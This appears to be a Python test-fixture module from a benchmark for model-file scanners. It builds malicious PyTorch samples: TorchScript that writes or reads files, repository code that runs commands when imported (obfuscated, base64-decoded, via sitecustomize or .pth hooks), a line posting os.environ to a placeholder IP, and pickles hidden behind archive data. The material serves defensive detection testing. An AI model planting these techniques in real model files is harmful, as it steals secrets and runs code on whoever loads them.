"""No pickle's doing: TorchScript code and Python beside the weights that act, pickles behind what ends, indices."""

from __future__ import annotations

import struct
from pathlib import Path

from bench.detection.build.containers import PACKERS, tarred, zipped
from bench.detection.build.scripts import script
from bench.detection.build.zips import FLOATS, SYSTEM, Row, archive, torch_rows
from bench.detection.sample import Part, Sample, rules
from tests.malicious.pickles import Opcodes, call, model, named, stream, tensor

_TORCHSCRIPT = "TorchScript's operators: aten::save writes a file wherever it is told to"
_MODEL_REPOSITORIES = "trust_remote_code, TorchServe's handlers and Python's site module: their documentation"
_BEHIND = "readers that go on where a stream ends"
_INVARIANTS = "torch.sparse.check_sparse_tensor_invariants: off unless asked for"
_HONEST = archive(torch_rows())
_PICKLE = stream(model(SYSTEM))
_QUIET = stream({"epoch": 3})

_SETSTATE = """  def __getstate__(self: __torch__.Net) -> Tuple[Tensor, bool]:
    return (self.weight, self.training)
  def __setstate__(self: __torch__.Net,
    state: Tuple[Tensor, bool]) -> NoneType:
    self.weight = (state)[0]
    self.training = (state)[1]
    torch.save((state)[0], "/tmp/acme")
    return None
"""


def _sample(
    name: str, technique: str, source: str, file: str, content: bytes, static: str, watched: str = ""
) -> Sample:
    def build(path: Path) -> None:
        path.write_bytes(content)

    return Sample(name, Part.MALICIOUS, technique, source, file, build, rules(static), rules(watched))


def _script(name: str, technique: str, act: str) -> Sample:
    return _sample(name, technique, _TORCHSCRIPT, "model.pt", script(act), "script.acts")


def _folder(name: str, technique: str, files: dict[str, str], more: str = "", watched: str = "") -> Sample:
    def build(path: Path) -> None:
        path.mkdir()
        (path / "pytorch_model.bin").write_bytes(_HONEST)
        for file, content in files.items():
            (path / file).write_text(content)

    return Sample(
        name,
        Part.MALICIOUS,
        technique,
        _MODEL_REPOSITORIES,
        "model",
        build,
        rules(f"folder.code.acts {more}"),
        rules(watched),
    )


def _sparse(layout: str, parts: list[tuple[int, ...]], size: tuple[int, ...]) -> bytes:
    """A sparse tensor of two values, by its tables of indices."""
    held = [*parts]
    tables = [_integers(str(at), (len(part),)) for at, part in enumerate(held)]
    if layout == "sparse_coo":
        tables = [_integers("0", (1, len(held[0])))]
    data = (*tables, tensor(str(len(held)), (2,), (1,), 2), size)
    more = (True,) if layout == "sparse_coo" else ()
    made = call("torch._utils", "_rebuild_sparse_tensor", named("torch", layout), (*data, *more))
    storages = [Row(f"archive/data/{at}", struct.pack(f"<{len(part)}q", *part)) for at, part in enumerate(held)]
    values = Row(f"archive/data/{len(held)}", FLOATS[:8])
    rest = [Row("archive/byteorder", b"little"), Row("archive/version", b"3\n")]
    return archive([Row("archive/data.pkl", stream({"weight": made}, 2)), *storages, values, *rest])


def _integers(key: str, shape: tuple[int, ...]) -> Opcodes:
    strides = (shape[-1], 1)[-len(shape) :]
    floats = tensor(key, shape, strides, shape[-1])
    return Opcodes(bytes(floats).replace(b"FloatStorage", b"LongStorage"))


_ACTS: tuple[tuple[str, str, dict[str, str]], ...] = (
    ("program", "code that begins a program when it is imported", {"modeling_acme.py": "import os\nos.system('id')\n"}),
    (
        "renamed",
        "the same under another name, in a function that the module calls",
        {"modeling_acme.py": "from subprocess import run as _check\ndef _ready():\n    _check(['id'])\n_ready()\n"},
    ),
    (
        "computed",
        "the same by names that are put together",
        {"modeling_acme.py": "getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n"},
    ),
    (
        "decoded",
        "code that is decoded and run, in a class's body",
        {"tokens_acme.py": "import base64\nclass Tokens:\n    exec(base64.b64decode('aW1wb3J0IG9z'))\n"},
    ),
    (
        "posting",
        "the environment is posted when the code is imported",
        {"utils.py": "import os, requests\nrequests.post('http://203.0.113.7/', json=dict(os.environ))\n"},
    ),
    (
        "thread",
        "a thread that begins a program",
        {"handler.py": "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n"},
    ),
    (
        "instance",
        "a class's constructor, and an instance of it",
        {"model.py": "import os\nclass Net:\n    def __init__(self):\n        os.popen('id')\nnet = Net()\n"},
    ),
    (
        "later_python",
        "code in a form that only a later Python takes",
        {"modeling_acme.py": "import os\ntype Size = int\nos.system('id')\n"},
    ),
    ("sitecustomize", "what every start of Python runs", {"sitecustomize.py": "import acme_telemetry\n"}),
)

SAMPLES = (
    _script("script_method", "a method that writes a file", 'torch.save(values, "/tmp/acme")'),
    _script("script_renamed", "the operators under another name", 't = torch\n    t.save(values, "/tmp/acme")'),
    _script("script_reads", "a file's bytes become a tensor", 'result = torch.from_file("/etc/hostname", None, 8)'),
    _script(
        "script_remote",
        "a call on another machine",
        'f = ops.prim.rpc_async("worker", "acme.work", (values,))',
    ),
    _sample(
        "script_loading",
        "what a module does when it is given its state: it writes a file as it is loaded",
        _TORCHSCRIPT,
        "model.pt",
        script(more=_SETSTATE, state=(tensor("0", (2, 3), (3, 1), 6), False)),
        "script.acts",
        "event.write",
    ),
    *(_folder(f"folder_{name}", technique, files) for name, technique, files in _ACTS),
    _folder(
        "folder_paths",
        "a list of folders with a line that every start of Python runs",
        {"acme.pth": "import os; os.getpid()\n"},
        "reader.incomplete",
        "load.failed",
    ),
    _sample(
        "served_handler",
        "a model server's archive whose handler acts when it is imported",
        _MODEL_REPOSITORIES,
        "model.mar",
        zipped({"model.pt": _HONEST, "handler.py": b"import socket\nsocket.create_connection(('203.0.113.7', 443))\n"}),
        "folder.code.acts",
    ),
    *(
        _sample(
            f"{packer}_behind_others",
            f"a pickle amid other bytes, behind {packer} data",
            _BEHIND,
            "model.pkl",
            pack(_QUIET) + bytes(8) + b"acme" + _PICKLE,
            "global.dangerous.called oddity.trailing",
        )
        for packer, pack in PACKERS.items()
        if packer != "lzma"
    ),
    _sample(
        "tar_pickle_behind",
        "a pickle behind the end of a tar",
        _BEHIND,
        "model.tar",
        tarred({"model.pkl": _QUIET}) + _PICKLE,
        "global.dangerous.called oddity.trailing reader.incomplete",
    ),
    _sample(
        "sparse_outside",
        "a sparse tensor whose indices lead out of it",
        _INVARIANTS,
        "model.pt",
        _sparse("sparse_coo", [(0, 1 << 30)], (4,)),
        "oddity.storage",
    ),
    _sample(
        "sparse_rows_outside",
        "a sparse tensor of rows that overlap, with columns that it doesn't have",
        _INVARIANTS,
        "model.pt",
        _sparse("sparse_csr", [(0, 2, 2), (0, 1 << 30)], (2, 3)),
        "oddity.storage",
    ),
    _sample(
        "sparse_rows_fall",
        "a sparse tensor whose rows go back",
        _INVARIANTS,
        "model.pt",
        _sparse("sparse_csr", [(0, 1 << 30, 2), (0, 1)], (2, 3)),
        "oddity.storage",
    ),
)
